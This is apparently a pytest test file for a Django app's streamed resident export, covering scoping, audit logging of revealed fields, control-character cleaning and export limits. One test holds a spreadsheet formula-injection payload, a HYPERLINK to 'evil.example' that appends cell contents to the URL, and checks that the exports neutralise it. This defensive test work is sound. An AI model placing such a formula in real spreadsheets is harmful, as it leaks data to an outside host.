"""The streamed resident export (people/exports.py): scope kept while the body is sent, reveals logged as rows
leave, text that spreadsheet programs refuse or run cleaned."""

import io
from datetime import date, timedelta

import pytest
from django.core.exceptions import PermissionDenied
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils import timezone
from openpyxl import load_workbook

from yizhan.audit.models import AuditLog
from yizhan.core import documents
from yizhan.core.masking import mask
from yizhan.core.scoping import get_scope, scope_for, scopes_disabled
from yizhan.people import exports
from yizhan.people.models import ImportBatch, Person
from yizhan.people.services.imports import error_report_workbook
from yizhan.people.validators import make_resident_id
from yizhan.tests.factories import PersonFactory

from .helpers import longyuan_person
from .test_imports import HEADER


def _names(content: bytes) -> list[str]:
    sheet = load_workbook(io.BytesIO(content)).active
    return [row[0] for row in sheet.iter_rows(min_row=2, values_only=True)]


def _people(world, count, code="330109113001", prefix="居民", first_day=0):
    people = []
    for n in range(count):
        born = date(1970, 1, 1) + timedelta(days=first_day + n * 7)
        p = Person(
            name=f"{prefix}{n:04d}",
            birth_date=born,
            region=world.regions[code],
            id_number=make_resident_id("330109", born, n % 1000),
            mobile=f"136{n:08d}",
        )
        p.mobile_hint = mask("mobile", p.mobile)
        people.append(p)
    with scopes_disabled():
        Person.all_objects.bulk_create(people)


def test_body_sent_after_the_request_still_holds_only_the_scope_of_the_request(world, client_for):
    _people(world, 3, "330109113001", "隆园")
    _people(world, 2, "330109114001", "梅西", first_day=3)  # 党湾镇: outside the 瓜沥镇 admin's scope
    response = client_for(world.users["town_admin"]).get("/people/export/")
    assert response.status_code == 200
    assert response.streaming
    assert get_scope() is None  # the request is over: its scope is no longer active
    names = _names(b"".join(response.streaming_content))
    assert names == ["隆园0000", "隆园0001", "隆园0002"]
    district = client_for(world.users["district_admin"]).get("/people/export/")
    assert len(_names(b"".join(district.streaming_content))) == 5


def test_control_characters_in_stored_text_do_not_break_the_export(world, client_for):
    with scopes_disabled():
        PersonFactory(name="王\u0001芳", address="隆园社区\u000b1号", notes="备注\u0002")
    client = client_for(world.users["station_manager"])
    response = client.get("/people/export/")
    assert response.status_code == 200
    assert _names(b"".join(response.streaming_content)) == ["王芳"]
    full = client.post("/people/export/", {"full": "1", "reason": "核实"})
    sheet = load_workbook(io.BytesIO(b"".join(full.streaming_content))).active
    assert sheet["A2"].value == "王芳"
    assert sheet["H2"].value == "隆园社区1号"


def test_check_report_of_an_import_with_control_characters(world):
    with scopes_disabled():
        batch = ImportBatch.all_objects.create(
            created_by=world.users["station_manager"],
            file_name="a.xlsx",
            file_hash="0" * 64,
            payload='[{"row": 2, "values": {"name": "\\u0001=王芳", "village": "x"}, "errors": [], "status": "ok"}]',
        )
        sheet = load_workbook(io.BytesIO(error_report_workbook(batch))).active
    assert sheet["B2"].value == "'=王芳"


def test_full_export_logs_each_batch_before_its_rows_leave(world, client_for, monkeypatch):
    monkeypatch.setattr(exports, "BATCH", 4)
    monkeypatch.setattr(documents, "CHUNK_BYTES", 1)  # a chunk leaves after every row
    _people(world, 10)
    response = client_for(world.users["station_manager"]).post("/people/export/", {"full": "1", "reason": "上报"})
    export = AuditLog.all_objects.get(action=AuditLog.Action.EXPORT)
    assert export.field == "full"
    assert export.changes == {"rows": [None, 10]}
    reveals = AuditLog.all_objects.filter(action=AuditLog.Action.REVEAL)
    assert not reveals.exists()  # nothing has been sent yet
    body = iter(response.streaming_content)
    sent = next(body)  # the first chunk leaves once the first person is written
    assert reveals.count() == 4
    sent += b"".join(body)
    assert reveals.count() == 10
    row = reveals.first()
    assert (row.field, row.reason, row.region_code) == (
        "id_number,mobile,address,birth_date",
        "Excel 导出：上报",
        "330109113001",
    )
    assert len(_names(sent)) == 10


def test_full_export_of_someone_not_revealable_is_refused_and_logs_nothing(world):
    person = longyuan_person(world)
    with scopes_disabled():
        Person.all_objects.filter(pk=person.pk).update(anonymised_at=timezone.now())
    with scope_for(world.users["town_admin"]), pytest.raises(PermissionDenied):
        exports.people_export(people=Person.objects.all(), actor=world.users["town_admin"], full=True, reason="上报")
    assert not AuditLog.all_objects.exists()


@pytest.mark.parametrize("count", [5, 60])
def test_export_query_count_does_not_grow_with_the_rows(world, client_for, django_assert_num_queries, count):
    _people(world, count)
    client = client_for(world.users["town_admin"])
    response = client.get("/people/export/")
    with django_assert_num_queries(2):  # the people of the batch, their current target groups
        content = b"".join(response.streaming_content)
    assert len(_names(content)) == count


def test_excel_outputs_never_hold_formulas_from_user_text(world, client_for):
    from openpyxl import load_workbook

    evil = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
    client = client_for(world.users["station_manager"])
    row = [evil, "女", "1980-01-01", "", "", "", "", "330109113001", "", ""]
    from openpyxl import Workbook

    wb = Workbook()
    wb.active.append(HEADER)
    wb.active.append(row)
    wb.active["A2"].data_type = "s"  # typed in as text, as a user of a spreadsheet program would
    out = io.BytesIO()
    wb.save(out)
    response = client.post("/people/import/", {"file": SimpleUploadedFile("a.xlsx", out.getvalue())})
    assert response.status_code == 302
    batch_url = response["Location"]
    assert client.post(batch_url).status_code == 302
    with scopes_disabled():
        assert Person.all_objects.get().name == evil  # stored as typed; only the Excel cells are made safe
    exported = b"".join(client.get("/people/export/").streaming_content)
    for content in (exported, client.get(batch_url + "check.xlsx").content):
        wb = load_workbook(io.BytesIO(content))
        cells = [c for ws in wb.worksheets for r in ws.iter_rows() for c in r]
        assert [(c.value, c.data_type) for c in cells if evil in str(c.value)] == [("'" + evil, "s")]
        assert not [c.value for c in cells if c.data_type == "f" or str(c.value).startswith("=")]


def test_an_export_of_more_people_than_one_file_holds_is_refused_whole_and_logs_nothing(world, client_for, settings):
    _people(world, 4)
    settings.PEOPLE_EXPORT_LIMIT = 3
    client = client_for(world.users["town_admin"])
    response = client.get("/people/export/", follow=True)
    assert not getattr(response, "streaming", False)
    assert "超过 3 位居民符合条件" in response.content.decode()
    assert not AuditLog.all_objects.filter(action=AuditLog.Action.EXPORT).exists()
    # at the limit the whole list leaves, nothing cut short
    settings.PEOPLE_EXPORT_LIMIT = 4
    response = client.get("/people/export/")
    assert len(_names(b"".join(response.streaming_content))) == 4
